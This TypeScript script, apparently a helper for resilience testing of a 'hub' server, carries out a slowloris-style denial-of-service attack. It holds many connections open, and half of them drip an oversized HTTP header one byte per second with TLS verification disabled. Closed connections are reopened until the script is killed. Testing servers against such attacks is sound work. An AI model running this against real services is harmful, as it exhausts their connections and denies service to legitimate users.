import { connect as connectTcp } from 'node:net';
import { type ConnectionOptions, connect as connectTls } from 'node:tls';
import * as v from 'valibot';

/**
 * Opens many connections to a port of a hub, and opens those again that it closes: half of them say nothing, the others
 * send a request's head a byte a second. Prints a line once all have been opened, and goes on until it is killed.
 */
function main(): void {
  const { host, port, connections } = v.parse(startSchema, JSON.parse(process.argv[2] ?? ''));
  let opened = 0;
  const open = (index: number) => {
    const socket = index % 2 === 0 ? connectTcp(port, host) : dripping({ host, port });
    socket.once('connect', () => {
      opened += 1;
      if (opened === connections) process.stdout.write('opened\n');
    });
    socket.on('error', () => {});
    socket.resume();
    socket.once('close', () => setTimeout(open, 100, index));
  };
  for (let index = 0; index < connections; index += 1) open(index);
}

const startSchema = v.object({ host: v.string(), port: v.number(), connections: v.number() });

function dripping(to: ConnectionOptions) {
  const socket = connectTls({ ...to, rejectUnauthorized: false });
  const head = 'GET /apis HTTP/1.1\r\nHost: hub\r\nX-Slow: '.padEnd(10_000, 'x');
  let sent = 0;
  const timer = setInterval(() => socket.write(head.charAt(sent++)), 1_000);
  socket.once('close', () => clearInterval(timer));
  return socket;
}

main();
